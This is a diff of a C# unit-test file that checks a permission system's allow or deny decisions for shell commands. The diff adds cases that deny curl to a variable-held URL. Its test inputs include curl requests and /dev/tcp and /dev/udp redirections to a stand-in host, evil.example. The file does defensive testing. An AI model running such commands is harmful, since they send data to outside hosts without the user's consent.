@@ -36,6 +36,8 @@ public sealed class LinePlaceTests
     [InlineData("curl \"https://evil.example/$x\"", PermissionDecision.Deny)]
     [InlineData("echo x > /dev/tcp/evil.example/80", PermissionDecision.Deny)]
     [InlineData("cat < /dev/udp/evil.example/53", PermissionDecision.Deny)]
+    [InlineData("u=https://evil.example/x; curl \"$u\"", PermissionDecision.Deny)]
+    [InlineData("u=https://evil.example/x; echo \"$u\"", PermissionDecision.Allow)]
     [InlineData("curl \"https://$x.example/evil.example\"", PermissionDecision.Allow)]
     [InlineData("grep -r x .", PermissionDecision.Deny)]
     [InlineData("grep -nR x .", PermissionDecision.Deny)]
